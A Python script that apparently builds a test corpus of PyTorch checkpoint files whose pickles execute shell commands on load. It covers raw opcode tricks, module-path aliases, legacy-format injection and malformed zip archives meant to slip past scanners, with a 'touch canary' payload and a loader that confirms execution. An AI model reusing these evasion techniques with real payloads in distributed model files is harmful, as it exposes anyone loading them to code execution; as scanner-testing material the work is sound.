"""Checkpoints that run code when they are loaded by pickle: `attack_files.py FOLDER`.

Each leaves a file of its own in `FOLDER/canary`. `attack_files.py FOLDER --load` loads them all as
PyTorch does, which proves that they would.
"""

import json
import os
import shutil
import struct
import sys
import zipfile
from contextlib import suppress
from pathlib import Path

import torch

from gadgets import gadgets

WEIGHT = {"weight": torch.arange(4.0)}


class Attacks:
    def __init__(self, folder):
        self.folder = Path(folder)
        self.canaries = self.folder / "canary"
        self.canaries.mkdir(parents=True)
        self.files = []

    def canary(self, name):
        return str(self.canaries / name)

    def note(self, name, names=("weight",), says="", runs=True, left=None):
        """`names` of tensors that can be known; None: it may be refused as well."""
        self.files.append(
            {"file": name, "names": names, "says": says, "runs": runs, "canary": left or name}
        )

    def script(self, name):
        path = self.folder / f"{name}.py"
        path.write_text(f"open({self.canary(name)!r}, 'w').close()")
        return str(path)


def by_torch(attacks):
    """Each call saved by torch.save, in both formats."""
    for format, zipped in (("zip", True), ("legacy", False)):
        for gadget in gadgets("", ""):
            name = f"{format}-{gadget}.pt"
            made = gadgets(attacks.canary(name), attacks.script(name))[gadget]
            path = attacks.folder / name
            torch.save({**WEIGHT, "evil": made}, path, _use_new_zipfile_serialization=zipped)
            # Alone, it returns a function.
            runs = gadget != "attrgetter"
            attacks.note(name, runs=runs, left=name + ".npy" * (gadget == "numpy-save"))


def in_zip(attacks, name, pickle, change=None, **more):
    """A file of torch.save whose data.pkl is another; `change` changes the bytes of the archive."""
    path = attacks.folder / name
    torch.save(WEIGHT, path)
    with zipfile.ZipFile(path) as archive:
        entries = [(entry.filename, archive.read(entry)) for entry in archive.infolist()]
    with zipfile.ZipFile(path, "w") as archive:
        for entry, content in entries:
            archive.writestr(entry, pickle if entry.endswith("/data.pkl") else content)
    if change is not None:
        path.write_bytes(change(path.read_bytes()))
    attacks.note(name, **more)


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def by_opcodes(attacks):
    """What no pickler writes."""

    def add(name, make, **more):
        file = f"opcodes-{name}.pt"
        in_zip(attacks, file, make(f"touch '{attacks.canary(file)}'"), **more)

    system = {"names": [], "says": "os.system"}
    add("global", lambda touch: b"cos\nsystem\n" + text(touch) + b"\x85R.", **system)
    add("inst", lambda touch: b"(" + text(touch) + b"ios\nsystem\n.", **system)
    add("obj", lambda touch: b"(cos\nsystem\n" + text(touch) + b"o.", **system)
    add(
        "stack-global",
        lambda touch: b"\x80\x04" + text("os") + text("system") + b"\x93" + text(touch) + b"\x85R.",
        **system,
    )
    add(
        "memo",
        lambda touch: (
            b"\x80\x04"
            + (text("os") + b"q\x07" + text("system") + b"\x94" + b"0" * 2)
            + (b"h\x07" + b"h\x01" + b"\x93" + text(touch) + b"\x85R.")
        ),
        **system,
    )
    add(
        "memo-overwritten",
        lambda touch: (
            b"\x80\x04"
            + (text("collections") + b"q\x01" + b"0" + text("os") + b"r\x01\x00\x00\x00" + b"0")
            + (b"h\x01" + text("system") + b"\x93" + text(touch) + b"\x85R.")
        ),
        **system,
    )
    add(
        "text-opcodes",
        lambda touch: b"(S'os'\nS'system'\ntp0\n0" + b"cos\nsystem\n(V" + touch.encode() + b"\ntR.",
        **system,
    )
    add(
        "dotted",
        lambda touch: (
            b"\x80\x04"
            + (text("importlib") + text("os.system") + b"\x93" + text(touch) + b"\x85R.")
        ),
        **(system | {"says": "importlib.os.system", "runs": False}),
    )
    add(
        "dotted-module",
        lambda touch: (
            b"\x80\x04"
            + (text("tempfile") + text("_os.system") + b"\x93" + text(touch) + b"\x85R.")
        ),
        **(system | {"says": "tempfile._os.system"}),
    )
    add(
        "method-of-numpy",
        lambda touch: (
            b"\x80\x04"
            + (text("numpy") + text("ndarray.tofile") + b"\x93" + b"cnumpy\narray\nK\x01\x85R")
            + (text(touch.split("'")[1]) + b"\x86R.")
        ),
        **(system | {"says": "numpy.ndarray.tofile"}),
    )
    add(
        "before-damage",
        lambda touch: b"cos\nsystem\n" + text(touch) + b"\x85R0\xff\xff\xff",
        **(system | {"names": None}),
    )
    add(
        "before-end",
        lambda touch: b"cos\nsystem\n" + text(touch) + b"\x85R0",
        **(system | {"names": None}),
    )
    add("in-persistent-id", lambda touch: b"cos\nsystem\n" + text(touch) + b"\x85RQ.", names=None)
    add(
        "setstate",
        lambda touch: (
            b"ctypes\nSimpleNamespace\n)R}"
            + (text("a") + b"cos\nsystem\n" + text(touch) + b"\x85Rsb.")
        ),
        **system,
    )
    add(
        "new-extended",
        lambda touch: b"\x80\x04csubprocess\nPopen\n)}\x92cos\nsystem\n" + text(touch) + b"\x85R.",
        **system,
    )
    add(
        "deep",
        lambda touch: b"]" * 5000 + b"cos\nsystem\n" + text(touch) + b"\x85R" + b"a" * 5000 + b".",
        **system,
    )
    add(
        "sys-modules",
        lambda touch: (
            b"csys\nmodules\n" + (b"S'torch._utils'\ncos\nsystem\n" + text(touch) + b"\x85Rs.")
        ),
        **(system | {"names": None}),
    )


def by_archives(attacks):
    """Zip archives that scanners stumbled over and PyTorch did not."""

    def pickle(file):
        return b"cos\nsystem\n" + text(f"touch '{attacks.canary(file)}'") + b"\x85R."

    def flags(bits):
        def change(data):
            data = bytearray(data)
            at = data.find(b"PK\x01\x02")
            while at >= 0:
                data[at + 8] |= bits
                at = data.find(b"PK\x01\x02", at + 4)
            return bytes(data)

        return change

    def wrong_crc(data):
        with zipfile.ZipFile(path) as archive:
            crc = next(each.CRC for each in archive.infolist() if "data.pkl" in each.filename)
        return data.replace(struct.pack("<I", crc), struct.pack("<I", crc ^ 1))

    unsure = {"names": None}
    for bits in (0x1, 0x20, 0x40):
        file = f"archive-flag-{bits}.pt"
        in_zip(attacks, file, pickle(file), flags(bits), runs=False, **unsure)
    file = "archive-crc.pt"
    path = attacks.folder / file
    in_zip(attacks, file, pickle(file), wrong_crc, **unsure)
    file = "archive-capitals.pt"
    capitals = "data.pkl", "DATA.PKL"
    in_zip(attacks, file, pickle(file), lambda data: renamed(data, *capitals, -1), **unsure)
    file = "archive-two-names.pt"
    in_zip(
        attacks,
        file,
        pickle(file),
        lambda data: data.replace(b"data.pkl", b"data.txt", 1),
        **unsure,
    )
    file = "archive-prefixed.pt"
    in_zip(attacks, file, pickle(file), lambda data: b"#!/bin/sh\n" + data, runs=False, **unsure)
    file = "archive-extension.bin.txt"
    in_zip(attacks, file, pickle(file), names=[], says="os.system")


def renamed(data, old, new, count):
    return data.replace(old.encode(), new.encode(), count)


def by_legacy(attacks):
    """Before the object itself, which PyTorch reads as a fifth pickle, and behind it."""
    for number in range(4):
        name = f"legacy-pickle-{number}.pt"
        path = attacks.folder / name
        torch.save(WEIGHT, path, _use_new_zipfile_serialization=False)
        touch = f"touch '{attacks.canary(name)}'"
        evil = b"\x80\x02cos\nsystem\n" + text(touch) + b"\x85R0"
        data = path.read_bytes()
        at = 0
        for _ in range(number):
            at = data.index(b".\x80\x02", at) + 1
        path.write_bytes(data[:at] + evil + data[at + 2 :])
        # Without its magic number in front it is refused.
        known = {"names": None} if number == 0 else {"says": "os.system"}
        attacks.note(name, **known)


def load(folder):
    """Loads each in a process of its own, since some end it."""
    for each in json.loads((folder / "attacks.json").read_text()):
        child = os.fork()
        if child == 0:
            quiet = os.open(os.devnull, os.O_RDWR)
            for stream in (0, 1, 2):
                os.dup2(quiet, stream)
            with suppress(BaseException):
                torch.load(folder / each["file"])
            os._exit(0)
        os.waitpid(child, 0)


if __name__ == "__main__":
    target = Path(sys.argv[1])
    if "--load" in sys.argv:
        load(target)
        sys.exit()
    shutil.rmtree(target, ignore_errors=True)
    all_files = Attacks(target)
    for write in (by_torch, by_opcodes, by_archives, by_legacy):
        write(all_files)
    (target / "attacks.json").write_text(json.dumps(all_files.files, indent=1))
